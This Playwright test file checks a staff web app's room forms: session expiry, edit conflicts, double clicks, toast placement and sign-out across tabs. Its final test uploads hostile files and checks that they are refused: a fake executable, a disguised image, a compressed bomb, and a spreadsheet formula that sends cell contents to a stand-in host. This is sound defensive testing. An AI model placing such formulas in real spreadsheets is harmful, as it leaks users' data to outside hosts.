import { randomInt } from 'node:crypto';
import type { Page } from '@playwright/test';
import { enterAs, expect, PASSWORD, test, type Upload } from './fixtures.ts';
import { disguisedPicture, packedBomb, wideFormulas } from './hostile-files.ts';

/** A room code nobody else of this run has. */
const newCode = (): string => `F${randomInt(10_000, 99_999)}`;

/** The window of a new room, filled in. */
async function fillRoom(page: Page, code: string, name: string) {
  await page.goto('/staff/ruang');
  await page.getByRole('button', { name: 'Tambah ruang' }).click();
  const dialog = page.getByRole('dialog', { name: 'Tambah ruang' });
  await dialog.getByLabel(/^Kode/).fill(code);
  await dialog.getByLabel(/^Nama/).fill(name);
  return dialog;
}

/** Opens the room in its window. */
async function openRoom(page: Page, code: string) {
  await page.goto(`/staff/ruang?search=${code}`);
  await page.getByRole('button', { name: `Tindakan untuk ${code}` }).click();
  await page.getByRole('menuitem', { name: 'Ubah' }).click();
  return page.getByRole('dialog', { name: `Ubah ruang ${code}` });
}

const roomsCalled = async (page: Page, code: string): Promise<string[]> => {
  const answer = (await (await page.request.get(`/api/staff/room?search=${code}`)).json()) as {
    data: { name: string }[];
  };
  return answer.data.map(({ name }) => name);
};

test('a session that ends in the middle of a form costs nothing', async ({ page, context, signIn, axe }) => {
  const code = newCode();
  await signIn('registrar');
  const dialog = await fillRoom(page, code, 'Ruang sesi habis');
  await context.clearCookies({ name: 'cendekia_session' });
  await dialog.getByRole('button', { name: 'Simpan' }).click();
  const over = page.getByRole('dialog', { name: 'Sesi Anda berakhir' });
  await expect(over).toBeVisible();
  await axe();
  await over.getByLabel('Kata sandi', { exact: true }).fill('bukan ini');
  await over.getByRole('button', { name: 'Masuk dan lanjutkan' }).click();
  await expect(over.getByRole('alert')).toBeVisible();
  await over.getByLabel('Kata sandi', { exact: true }).fill(PASSWORD);
  await over.getByRole('button', { name: 'Masuk dan lanjutkan' }).click();
  await expect(over).toBeHidden();
  await expect(dialog).toBeHidden();
  expect(await roomsCalled(page, code)).toEqual(['Ruang sesi habis']);
});

test('of two who change one record the second is told, loses nothing and gets the new state', async ({
  page,
  browser,
  signIn,
}) => {
  const code = newCode();
  await signIn('registrar');
  await (await fillRoom(page, code, 'Ruang lama')).getByRole('button', { name: 'Simpan' }).click();
  await expect(page.getByText(/tersimpan/i).first()).toBeVisible();
  const mine = await openRoom(page, code);
  await mine.getByLabel(/^Nama/).fill('Ruang menurut saya');

  const other = await (await browser.newContext({ baseURL: new URL(page.url()).origin })).newPage();
  await enterAs(other, 'admin@cendekia.test');
  const theirs = await openRoom(other, code);
  await theirs.getByLabel(/^Nama/).fill('Ruang menurut mereka');
  await theirs.getByRole('button', { name: 'Simpan' }).click();
  await expect(theirs).toBeHidden();
  await other.context().close();

  await mine.getByRole('button', { name: 'Simpan' }).click();
  const message = page.getByRole('region', { name: 'Pesan' }).getByRole('listitem');
  await expect(message.filter({ hasText: 'sudah diubah oleh pengguna lain' })).toBeVisible();
  await expect(mine.getByLabel(/^Nama/)).toHaveValue('Ruang menurut saya');
  expect(await roomsCalled(page, code)).toEqual(['Ruang menurut mereka']);
  page.once('dialog', (leaving) => void leaving.accept());
  await message.getByRole('button', { name: 'Muat ulang' }).click();
  const again = await openRoom(page, code);
  await expect(again.getByLabel(/^Nama/)).toHaveValue('Ruang menurut mereka');
  await again.getByLabel(/^Nama/).fill('Ruang menurut saya');
  await again.getByRole('button', { name: 'Simpan' }).click();
  await expect(again).toBeHidden();
  expect(await roomsCalled(page, code)).toEqual(['Ruang menurut saya']);
});

test('a double click saves once', async ({ page, signIn }) => {
  const code = newCode();
  await signIn('registrar');
  const saves: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().endsWith('/api/staff/room')) saves.push(request.url());
  });
  const dialog = await fillRoom(page, code, 'Ruang klik ganda');
  await dialog.getByRole('button', { name: 'Simpan' }).dblclick();
  await expect(dialog).toBeHidden();
  expect(saves).toHaveLength(1);
  expect(await roomsCalled(page, code)).toEqual(['Ruang klik ganda']);
});

test('the message of a saved form covers no button, neither of the page nor of the bar', async ({
  page,
  signIn,
}) => {
  await signIn('registrar');
  const dialog = await fillRoom(page, newCode(), 'Ruang berpesan');
  await dialog.getByRole('button', { name: 'Simpan' }).click();
  const message = page.getByRole('region', { name: 'Pesan' }).getByRole('listitem').first();
  await expect(message).toContainText('tersimpan');
  await expect(dialog).toBeHidden();
  const covered = await message.evaluate((told) => {
    const over = told.getBoundingClientRect();
    return [...document.querySelectorAll('button, input')]
      .filter((one) => !told.contains(one))
      .filter((one) => {
        const { left, right, top, bottom, width } = one.getBoundingClientRect();
        return width > 0 && left < over.right && right > over.left && top < over.bottom && bottom > over.top;
      })
      .map((one) => one.textContent);
  });
  expect(covered).toEqual([]);
});

test('signing out in one tab leaves nothing of the person in another @desk', async ({
  page,
  context,
  signIn,
}) => {
  await signIn('registrar');
  const dialog = await fillRoom(page, newCode(), 'Ruang di meja bersama');
  const other = await context.newPage();
  await other.goto('/');
  await other.getByRole('button', { name: /Menu pengguna/ }).click();
  await other.getByRole('menuitem', { name: 'Logout' }).click();
  await expect(other).toHaveURL(/\/login$/);
  await expect(page).toHaveURL(/\/login$/);
  await expect(dialog).toBeHidden();
});

test('files built to harm are refused in words, formulas stay text', async ({ page, signIn, fits, axe }) => {
  const failures: string[] = [];
  page.on('response', (response) => {
    if (response.status() >= 500) failures.push(`${response.status()} ${response.url()}`);
  });
  await signIn('registrar');
  await page.goto('/staff/mahasiswa/add-many');
  const field = page.getByLabel('Berkas Excel atau CSV');
  const read = page.getByRole('button', { name: 'Baca berkas' });
  const give = async (file: Upload): Promise<void> => {
    await field.setInputFiles(file);
    await read.click();
  };
  await field.setInputFiles({
    name: 'virus.exe',
    mimeType: 'application/x-msdownload',
    buffer: Buffer.from('MZ'),
  });
  await expect(page.getByText('"virus.exe" bukan Excel (.xlsx) atau CSV.')).toBeVisible();
  await expect(read).toBeDisabled();
  await give(disguisedPicture());
  await expect(page.getByText('Ini gambar. Unggah berkas Excel (.xlsx) atau CSV.')).toBeVisible();
  await page.getByRole('button', { name: 'Hapus foto.xlsx' }).click();
  await give(packedBomb());
  await expect(page.getByText(/terlalu (besar|rumit)|50 MB/)).toBeVisible();
  await page.getByRole('button', { name: 'Hapus bom.xlsx' }).click();

  await give(wideFormulas());
  await expect(page.getByText('Kolom 30', { exact: true })).toBeVisible();
  const sample = page.getByText('=HYPERLINK("http://contoh.test?"&A1;"klik")');
  await expect(sample.filter({ visible: true }).first()).toBeVisible();
  await expect(page.getByRole('button', { name: 'Lihat pratinjau' })).toBeDisabled();
  await fits();
  await axe();
  expect(failures).toEqual([]);
});
